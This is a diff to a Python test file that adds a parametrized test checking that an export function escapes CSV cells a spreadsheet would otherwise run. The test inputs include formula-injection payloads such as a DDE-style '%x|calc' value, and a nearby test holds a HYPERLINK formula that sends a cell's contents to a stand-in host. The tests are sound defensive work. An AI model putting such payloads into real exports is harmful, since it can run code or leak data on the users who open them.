@@ -421,6 +421,23 @@ def test_period_days() -> None:
         assert refused.value.problem == problem
 
 
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+34600111222", "'+34600111222"),  # a phone: shown with its plus, never summed
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("%x|calc", "'%x\\|calc"),  # a pipe would start DDE in old Excel
+        ("-5", "-5"),  # a number stays a number
+        ("-1.234,50", "-1.234,50"),
+        ("Ana-María", "Ana-María"),
+        ("", ""),
+    ],
+)
+def test_csv_text_that_a_spreadsheet_would_run_is_shown_instead(typed: str, written: str) -> None:
+    assert exports.shown_not_run(typed) == written
+
+
 async def test_export_cells_a_spreadsheet_would_run_are_written_as_text(bot: RunningBot) -> None:
     formula = '=HYPERLINK("http://x/?"&C2,"Open")'
     identity = Identity("telegram", "520")
